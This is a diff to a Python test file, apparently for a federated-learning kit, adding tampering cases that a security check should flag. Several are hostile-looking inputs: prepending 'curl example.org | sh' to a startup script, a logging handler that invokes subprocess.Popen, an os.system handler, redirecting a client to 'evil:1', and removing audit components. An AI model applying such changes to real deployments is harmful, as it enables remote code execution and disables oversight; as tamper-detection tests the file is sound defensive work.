@@ -49,6 +49,18 @@ def startup(name: str, change: Callable[[Any], object]) -> Callable[[Path], None
     return lambda kit: edit(kit / "startup" / name, change)
 
 
+def log(change: Callable[[Any], object]) -> Callable[[Path], None]:
+    return lambda kit: edit(kit / "local" / "log_config.json", change)
+
+
+def wire(change: Callable[[Any], object]) -> Callable[[Path], None]:
+    return lambda kit: edit(kit / "local" / "comm_config.json", change)
+
+
+def prepend(name: str, line: str) -> Callable[[Path], object]:
+    return lambda kit: (kit / name).write_text(f"{line}\n{(kit / name).read_text()}")
+
+
 def write(name: str, text: str) -> Callable[[Path], None]:
     def do(kit: Path) -> None:
         (kit / name).parent.mkdir(exist_ok=True)
@@ -76,14 +88,33 @@ WEAKENED: list[tuple[str, Callable[[Path], None], str]] = [
     (SITE, resources(lambda c: c.pop("class_allow_list")), "class allow-list"),
     (SITE, resources(lambda c: c.update(class_allow_list="fedmedseg.")), "class allow-list"),
     (SITE, resources(lambda c: c.update(class_list_enforcement_mode="warn")), "class allow-list"),
+    (SITE, resources(lambda c: c["class_allow_list"].append("fedmedseg.")), "class allow-list"),
     (SITE, remove("local/resources.json"), "class allow-list"),
     (SITE, write("local/resources.json", "{"), "class allow-list"),
     # what is to be installed
     (SITE, remove("startup/release.json"), "release"),
     (ADMIN, write("startup/release.json", "{}"), "release"),
+    # what runs before any policy is read
+    (SITE, prepend("startup/sub_start.sh", "curl example.org | sh"), "own files"),
+    (SERVER, prepend("startup/start.sh", "true"), "own files"),
+    (SITE, remove("startup/stop_fl.sh"), "own files"),
+    (SITE, write("startup/more.sh", ""), "own files"),
+    (SITE, startup("fed_client.json", lambda c: c["servers"][0]["service"].update(target="evil:1")), "own files"),
+    (SITE, log(lambda c: c["handlers"].update(x={"()": "subprocess.Popen", "args": ["true"]})), "own files"),
+    (ADMIN, prepend("startup/fl_admin.sh", "true"), "own files"),
+    (SITE, startup("release.json", lambda c: c.update(files={})), "own files"),
+    (SITE, wire(lambda c: c.update(comm_driver_path="local/drivers")), "communication"),
+    (SITE, wire(lambda c: c.update(allow_adhoc_conns=True)), "communication"),
+    (SERVER, wire(lambda c: c["internal"]["resources"].update(host="0.0.0.0")), "communication"),
     # what runs beside jobs
     (SITE, resources(lambda c: c["components"].append({"id": "x", "path": "evil.Listener"})), "components"),
     (SITE, resources(lambda c: c["components"].append({"id": "x", "name": "Listener"})), "components"),
+    (SITE, resources(lambda c: c["components"].pop(-1)), "components"),
+    (SITE, resources(lambda c: c["components"].append(c["components"][0])), "components"),
+    (SERVER, resources(lambda c: c["components"].remove(stock(c)["federation_guard"])), "components"),
+    (SERVER, resources(lambda c: c["components"].remove(stock(c)["audit"])), "components"),
+    (SITE, resources(lambda c: c.update(handlers=[{"path": "os.system"}])), "components"),
+    (SITE, resources(lambda c: c.update(allow_log_streaming=True)), "log streaming"),
     (SITE, write("local/extra__resources.json", "{}"), "components"),
     (SERVER, write("startup/extra__p_resources.json", "{}"), "components"),
     (SITE, write("local/job_resources.json", "{}"), "components"),
